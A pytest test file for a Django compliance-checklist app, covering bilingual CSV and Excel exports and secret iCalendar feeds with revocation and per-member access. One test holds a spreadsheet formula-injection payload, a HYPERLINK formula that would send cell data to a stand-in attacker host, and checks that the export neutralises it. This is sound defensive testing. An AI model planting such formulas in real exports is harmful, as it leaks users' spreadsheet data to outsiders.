"""The CSV export for auditors and the secret iCalendar feeds."""

import csv
import datetime as dt
import io
import zoneinfo
from urllib.parse import urlsplit

import pytest
from rest_framework.test import APIClient

from obligations.models import CalendarFeed, ChecklistItem, Membership
from tests.plain import problems, vocabulary

from .conftest import (
    EXISTING_APP,
    FILING,
    MANAGEMENT,
    create_feed,
    feed_events,
    item_for,
    item_url,
    patch_item,
    report_event,
    url,
)

pytestmark = pytest.mark.django_db

HEADER = [
    "Item",
    "Instrument",
    "Provision",
    "Obligation",
    "Quoted text",
    "Period",
    "Phase",
    "Kind",
    "Applicability",
    "Why it applies",
    "Status",
    "Due date",
    "How the due date was set",
    "Assignee",
    "Completed by",
    "Completed at",
    "Reason it does not apply",
    "Evidence",
    "Why it was set aside",
    "Link",
]
HEADER_ZH = [
    "事项",
    "文件",
    "条款",
    "义务",
    "原文摘录",
    "期次",
    "阶段",
    "类型",
    "适用性",
    "适用理由",
    "状态",
    "到期日",
    "到期日的确定依据",
    "负责人",
    "完成人",
    "完成时间",
    "不适用理由",
    "证明材料",
    "搁置原因",
    "链接",
]
CHANGE = "cn-deep-synthesis-2022:art19-filing-change-provider"
APP_BEFORE_LAUNCH = "cn-miit-app-filing-2023:file-before-operating"  # 先履行备案手续后再开展业务


def export(client, organization, params=None):
    response = client.get(url(organization, "checklist/export/"), params or {})
    assert response.status_code == 200, response.content
    return response


def rows(response, header=HEADER) -> list[dict]:
    text = response.content.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text))
    assert next(reader) == header
    return [dict(zip(header, row, strict=True)) for row in reader]


def item_id(row: dict) -> int:
    """The item a row is about, from the link to its page (the file carries no bare ids)."""
    return int(urlsplit(row.get("Link") or row["链接"]).path.rstrip("/").rsplit("/", 1)[1])


@pytest.fixture
def launched(shanghai, as_alice, make_user, add_member):
    """Launched on 20 January 2025 and changed its filed information on 3 March; Bob is an officer."""
    launch = report_event(as_alice, shanghai, "service_launched", "2025-01-20")
    change = report_event(as_alice, shanghai, "filing_info_changed", "2025-03-03")
    bob = make_user("bob")
    add_member(shanghai, bob)
    return {
        "filing": item_for(shanghai, FILING, f"event:{launch}"),
        "change": item_for(shanghai, CHANGE, f"event:{change}"),
        "bob": bob,
    }


# --- CSV -----------------------------------------------------------------------------------


def test_export_has_a_bom_a_header_and_one_row_per_visible_item(shanghai, as_alice, launched):
    item = item_for(shanghai, MANAGEMENT)
    patch_item(as_alice, item, {"status": "done"})
    as_alice.post(item_url(item, "evidence/"), {"evidence_date": "2025-03-01", "note": "Policy"}, format="multipart")

    response = export(as_alice, shanghai)

    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="checklist-shanghai-en.csv"'
    exported = rows(response)
    visible = ChecklistItem.objects.filter(organization=shanghai, superseded_at__isnull=True).duties()
    assert sorted(item_id(r) for r in exported) == sorted(visible.values_list("pk", flat=True))
    by_id = {item_id(r): r for r in exported}
    row = by_id[item.pk]
    assert row["Item"] == item.obligation.title_in("en")
    assert row["Item"].startswith("Deep Synthesis Provisions Art. 7: ")
    assert row["Instrument"] == item.obligation.instrument.title_en
    assert row["Quoted text"] == item.obligation.quote_zh
    assert "深度合成服务提供者应当落实信息安全主体责任" in row["Quoted text"]
    assert (row["Status"], row["Completed by"], row["Evidence"]) == ("Done", "alice", "1")
    assert row["Completed at"]
    # In the organization's time, as its officers read the clock.
    item.refresh_from_db()
    shanghai_time = item.completed_at.astimezone(zoneinfo.ZoneInfo("Asia/Shanghai"))
    assert row["Completed at"] == f"{shanghai_time:%Y-%m-%d %H:%M}"
    assert row["Link"] == f"http://testserver/organizations/{shanghai.pk}/checklist/{item.pk}/"
    assert row["Why it applies"].splitlines()[0] == "The instrument is in force."
    assert "Deep synthesis service provider" in row["Why it applies"]
    filing = by_id[launched["filing"].pk]
    assert (filing["Period"], filing["Due date"]) == ("Service launched (2025-01-20)", "2025-02-08")
    assert filing["How the due date was set"].startswith("“Service launched” on 2025-01-20. 2025-01-20 is the start")


def test_export_in_chinese_has_chinese_headers_and_values(shanghai, as_alice, launched):
    exported = rows(export(as_alice, shanghai, {"lang": "zh"}), HEADER_ZH)
    filing = next(r for r in exported if item_id(r) == launched["filing"].pk)
    obligation = launched["filing"].obligation
    assert filing["事项"] == obligation.title_in("zh")
    assert filing["事项"].startswith("深度合成管理规定 第十九条：")
    assert (filing["文件"], filing["状态"], filing["适用性"]) == (obligation.instrument.title_zh, "待办", "适用")
    assert filing["期次"] == "服务上线（2025-01-20）"
    assert filing["到期日的确定依据"].startswith("“服务上线”的日期为2025-01-20。")
    assert "组织承担深度合成服务提供者角色。" in filing["适用理由"].splitlines()
    # The request's language is the default; an unknown one is refused, naming the parameter.
    assert rows(export(as_alice, shanghai), HEADER)
    chinese = as_alice.get(url(shanghai, "checklist/export/"), HTTP_ACCEPT_LANGUAGE="zh-CN")
    assert chinese["Content-Disposition"] == 'attachment; filename="checklist-shanghai-zh.csv"'
    refused = as_alice.get(url(shanghai, "checklist/export/"), {"lang": "fr"})
    assert (refused.status_code, list(refused.json())) == (400, ["lang"])
    # lang belongs to the export only: the list refuses it like any unknown parameter.
    assert as_alice.get(url(shanghai, "checklist/"), {"lang": "zh"}).status_code == 400


def test_export_applies_the_list_filters(shanghai, as_alice, launched):
    patch_item(as_alice, launched["change"], {"assignee": launched["bob"].pk})

    assigned = rows(export(as_alice, shanghai, {"assignee": str(launched["bob"].pk)}))
    assert [item_id(r) for r in assigned] == [launched["change"].pk]
    assert assigned[0]["Assignee"] == "bob"

    dated = rows(export(as_alice, shanghai, {"due_before": "2025-12-31"}))
    # The filing and the change filing, and the APP filing the notice puts before the launch.
    before_launch = item_for(shanghai, APP_BEFORE_LAUNCH, f"event:{launched['filing'].event_id}")
    assert before_launch.due_date == dt.date(2025, 1, 19)
    expected = [launched["filing"].pk, launched["change"].pk, before_launch.pk]
    assert sorted(item_id(r) for r in dated) == sorted(expected)

    superseded = rows(export(as_alice, shanghai, {"superseded": "true"}))
    assert superseded
    assert all(r["Why it was set aside"] for r in superseded)
    existing = next(r for r in superseded if item_id(r) == item_for(shanghai, EXISTING_APP).pk)
    assert existing["Why it was set aside"].startswith("No longer applies: ")

    assert as_alice.get(url(shanghai, "checklist/export/"), {"colour": "red"}).status_code == 400


def test_export_neutralizes_spreadsheet_formulas(shanghai, as_alice):
    item = item_for(shanghai, MANAGEMENT)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    patch_item(as_alice, item, {"status": "not_applicable", "justification": formula})

    (row,) = [r for r in rows(export(as_alice, shanghai)) if item_id(r) == item.pk]

    assert not row["Reason it does not apply"].startswith(("=", "+", "-", "@"))


# --- Excel ---------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_excel_workbook_has_the_csv_rows_as_text(shanghai, as_alice, launched, lang):
    from openpyxl import load_workbook

    item = item_for(shanghai, MANAGEMENT)
    patch_item(as_alice, item, {"status": "not_applicable", "justification": "=1+1 是公式吗\x01"})
    params = {"lang": lang, "status": ["open", "not_applicable"], "ordering": "-due_date"}
    response = export(as_alice, shanghai, {**params, "file": "xlsx"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith(f'-{lang}.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == ("清单" if lang == "zh" else "Checklist") and sheet.freeze_panes == "A2"
    table = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows()]
    text = export(as_alice, shanghai, params).content.decode("utf-8-sig").replace("\x01", "\ufffd")
    assert table == list(csv.reader(io.StringIO(text)))  # the same rows, filters and order as the CSV
    assert any(cell.endswith("是公式吗\ufffd") for row in table for cell in row)  # XML holds no \x01
    assert table[0] == (HEADER_ZH if lang == "zh" else HEADER)
    # Typed text stays text: no cell is a formula.
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_export_names_a_bad_file_kind(shanghai, as_alice):
    response = as_alice.get(url(shanghai, "checklist/export/"), {"file": "docx"})
    assert response.status_code == 400 and "file" in response.json()


# --- Calendar feeds ------------------------------------------------------------------------


def test_feed_lists_dated_items_as_all_day_events_with_stable_uids(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai, "Everything")
    assert urlsplit(feed["url"]).path.startswith("/calendar/cal_")
    assert urlsplit(feed["url"]).path.endswith(".ics")
    # The secret is shown once.
    listed = as_alice.get(url(shanghai, "calendar-feeds/")).json()["results"]
    assert [f["id"] for f in listed] == [feed["id"]]
    assert "url" not in listed[0]
    assert feed["url"].split("/")[-1].removesuffix(".ics") not in str(listed)

    events = feed_events(feed["url"])

    dated = ChecklistItem.objects.filter(organization=shanghai, due_date__isnull=False)
    assert {f"checklist-item-{i.pk}@testserver" for i in dated} == set(events)
    for item in dated:
        event = events[f"checklist-item-{item.pk}@testserver"]
        start, end = event.decoded("DTSTART"), event.decoded("DTEND")
        assert type(start) is dt.date  # all day, not a date-time
        assert start == item.due_date
        assert end == item.due_date + dt.timedelta(days=1)
        assert event["SEQUENCE"] == item.due_sequence
        assert str(event["STATUS"]) == ("CANCELLED" if item.superseded_at else "CONFIRMED")
        assert item.obligation.quote_zh in str(event["DESCRIPTION"])
        # Named as a person cites it, not by the catalogue's code.
        assert item.obligation.instrument.short_title_en in str(event["SUMMARY"])
        assert item.obligation.instrument.code not in str(event["SUMMARY"])
    filing = events[f"checklist-item-{launched['filing'].pk}@testserver"]
    assert filing.decoded("DTSTART") == dt.date(2025, 2, 8)
    assert feed_events(feed["url"]).keys() == events.keys()  # stable


def test_superseded_items_stay_in_the_feed_as_cancelled(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai)
    uid = f"checklist-item-{launched['change'].pk}@testserver"
    assert str(feed_events(feed["url"])[uid]["STATUS"]) == "CONFIRMED"

    assert as_alice.delete(url(shanghai, f"events/{launched['change'].event_id}/")).status_code == 204

    event = feed_events(feed["url"])[uid]
    assert str(event["STATUS"]) == "CANCELLED"
    existing = item_for(shanghai, EXISTING_APP)  # superseded by the launch date
    assert str(feed_events(feed["url"])[f"checklist-item-{existing.pk}@testserver"]["STATUS"]) == "CANCELLED"


def test_done_items_are_marked_in_the_summary(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai)
    patch_item(as_alice, launched["filing"], {"status": "done"})

    event = feed_events(feed["url"])[f"checklist-item-{launched['filing'].pk}@testserver"]

    assert str(event["SUMMARY"]).startswith("✓ ")
    assert "Status: Done" in str(event["DESCRIPTION"])  # the status's name, not its key


def test_mine_only_feed_has_only_the_members_items(shanghai, alice, as_alice, client_for, launched):
    bob = launched["bob"]
    patch_item(as_alice, launched["change"], {"assignee": bob.pk})
    patch_item(as_alice, launched["filing"], {"assignee": alice.pk})
    as_bob = client_for(bob)

    mine = create_feed(as_bob, shanghai, "Mine", mine_only=True)

    assert mine["member"] == "bob"
    assert set(feed_events(mine["url"])) == {f"checklist-item-{launched['change'].pk}@testserver"}
    everything = create_feed(as_bob, shanghai, "All")
    assert len(feed_events(everything["url"])) > 1
    # Reassigning moves the item out of Bob's feed.
    patch_item(as_alice, launched["change"], {"assignee": None})
    assert feed_events(mine["url"]) == {}


def test_viewers_may_create_feeds(shanghai, make_user, add_member, client_for):
    viewer = make_user("viewer")
    add_member(shanghai, viewer, Membership.Role.VIEWER)
    feed = create_feed(client_for(viewer), shanghai)
    assert APIClient().get(urlsplit(feed["url"]).path).status_code == 200


def test_revoked_and_unknown_feeds_are_404(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai)
    path = urlsplit(feed["url"]).path
    anonymous = APIClient()
    assert anonymous.get(path).status_code == 200

    assert as_alice.delete(url(shanghai, f"calendar-feeds/{feed['id']}/")).status_code == 204

    assert CalendarFeed.objects.get(pk=feed["id"]).revoked_at is not None
    assert anonymous.get(path).status_code == 404
    assert anonymous.get("/calendar/cal_unknown-secret.ics").status_code == 404
    assert anonymous.get(path.replace("cal_", "cal_x")).status_code == 404


def test_another_organizations_feeds_cannot_be_revoked(shanghai, as_alice, make_user, make_organization, client_for):
    feed = create_feed(as_alice, shanghai)
    other_admin = make_user("other-admin")
    other = make_organization(other_admin, "Other")

    response = client_for(other_admin).delete(url(other, f"calendar-feeds/{feed['id']}/"))

    assert response.status_code == 404
    assert CalendarFeed.objects.get(pk=feed["id"]).revoked_at is None


def test_feed_of_a_removed_member_stops_working(shanghai, as_alice, make_user, add_member, client_for):
    mallory = make_user("mallory")
    membership = add_member(shanghai, mallory)
    feed = create_feed(client_for(mallory), shanghai, "Everything")
    path = urlsplit(feed["url"]).path
    assert APIClient().get(path).status_code == 200

    assert as_alice.delete(url(shanghai, f"members/{membership.pk}/")).status_code == 204

    assert APIClient().get(path).status_code == 404


@pytest.mark.parametrize(("language", "status"), [("zh", "状态：待办"), ("en", "Status: Open")])
def test_feed_events_are_in_the_feeds_language(shanghai, as_alice, language, status):
    event_id = report_event(as_alice, shanghai, "service_launched", "2025-01-20")
    item = item_for(shanghai, FILING, f"event:{event_id}")
    response = as_alice.post(url(shanghai, "calendar-feeds/"), {"name": "All", "language": language}, format="json")
    assert response.status_code == 201 and response.json()["language"] == language
    events = feed_events(response.json()["url"])
    event = next(e for e in events.values() if str(e["URL"]).endswith(f"/checklist/{item.pk}/"))
    assert str(event["SUMMARY"]) == item.obligation.title_in(language)
    assert status in str(event["DESCRIPTION"])
    assert item.obligation.summary_in(language) in str(event["DESCRIPTION"])


# --- Words, not codes ----------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_files_feeds_and_item_texts_are_words_in_the_readers_language(shanghai, as_alice, launched, lang):
    """The CSV, a calendar feed and the item texts of the API (reasons, how a date was
    computed, why an item was set aside, history) carry no key or code, and in Chinese no
    English sentence. The organization's own name is the one thing typed in English here."""
    words = vocabulary()
    typed = ("Shanghai", "alice", "bob")
    csv_text = export(as_alice, shanghai, {"lang": lang, "superseded": "true"}).content.decode("utf-8-sig")
    csv_text += export(as_alice, shanghai, {"lang": lang}).content.decode("utf-8-sig")
    feed = create_feed(as_alice, shanghai, "全部" if lang == "zh" else "All", language=lang)
    feed_text = "\n".join(f"{e['SUMMARY']}\n{e['DESCRIPTION']}" for e in feed_events(feed["url"]).values())
    header = {"HTTP_ACCEPT_LANGUAGE": "zh-CN" if lang == "zh" else "en"}
    texts = []
    for item in ChecklistItem.objects.filter(organization=shanghai):
        detail = as_alice.get(item_url(item), **header).json()
        texts += [detail["title"], detail["summary"], detail["superseded_reason"], *detail["due_explanation"]]
        texts += [r["text"] for r in detail["reasons"]]
        texts += [h["text"] for h in as_alice.get(item_url(item, "history/"), **header).json()]
    found = {
        "csv": problems(csv_text, lang, words, typed),
        "feed": problems(feed_text, lang, words, typed),
        "api": problems("\n".join(texts), lang, words, typed),
    }
    assert found == {"csv": [], "feed": [], "api": []}
    # The system's history says why it changed the checklist, in words.
    cause = "报告“服务上线”（2025-01-20）后更新了清单。" if lang == "zh" else "after “Service launched” on 2025-01-20"
    assert any(cause in text for text in texts)
